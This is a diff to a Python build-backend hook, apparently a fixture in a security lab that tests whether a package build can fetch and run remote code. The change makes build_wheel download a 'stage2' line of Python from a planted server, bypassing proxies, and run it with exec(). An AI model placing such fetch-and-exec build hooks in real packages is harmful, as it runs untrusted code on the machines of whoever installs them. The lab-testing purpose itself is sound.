@@ -1,17 +1,19 @@
-"""Asks a server for a script that it would go on to run.
+"""Fetches a line of Python from a server and executes it.
 
-What comes back, if anything does, is thrown away here.
+The line comes from the lab and puts one word into the wheel.
 """
 
-import http.client
+import urllib.request
 
 import kit
 
 
 def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    loot = {}
     with kit.attempt("fetch"):
         server = kit.plant("server")
-        connection = http.client.HTTPConnection(server.address, server.port, timeout=1)
-        connection.request("GET", f"/stage2?for={kit.nonce}")
-        connection.getresponse().read()
-    return kit.wheel(wheel_directory)
+        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+        address = f"http://{server.address}:{server.port}/stage2?for={kit.nonce}"
+        with opener.open(address, timeout=3) as answer:
+            exec(answer.read(), {"loot": loot})
+    return kit.wheel(wheel_directory, loot)
